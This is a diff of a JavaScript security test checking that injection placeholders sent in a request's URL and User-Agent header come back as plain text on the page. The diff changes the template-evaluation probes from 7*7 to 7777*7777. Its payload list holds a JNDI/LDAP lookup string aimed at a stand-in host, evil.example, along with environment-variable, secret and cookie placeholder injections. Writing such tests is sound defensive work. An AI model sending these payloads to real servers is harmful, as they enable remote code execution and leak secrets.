@@ -16,11 +16,11 @@ test('a placeholder in a request stays text, for the app, on our pages and in li
     '{http.request.header.{http.request.header.X}}',
     '\u0024{CLIENT_SECRET}',
     '\u0024{jndi:ldap://evil.example/a}',
-    '{{7*7}}',
+    '{{7777*7777}}',
     '{env.HOME}',
     '$1$&$`',
     '%{HTTP_COOKIE}',
-    '#{7*7}',
+    '#{7777*7777}',
   ]) {
     const target = `/film?name=${text.replaceAll(/[#%`]/g, encodeURIComponent)}`
     gate.recorder.clear()
@@ -29,7 +29,7 @@ test('a placeholder in a request stays text, for the app, on our pages and in li
     expect(gate.recorder.requests[0]?.all('user-agent')).toEqual([text])
     const page = await sendRaw(gate.port, gate.anonymous(`GET ${target}`, `User-Agent: ${text}`, 'Accept: text/html'))
     expect([page.status, gate.links.at(-1)]).toEqual([401, target])
-    expect(page.bytes).not.toMatch(/49|movies-session|\/root|\/home\//)
+    expect(page.bytes).not.toMatch(/60481729|movies-session|\/root|\/home\//)
   }
   await gate.close()
 })
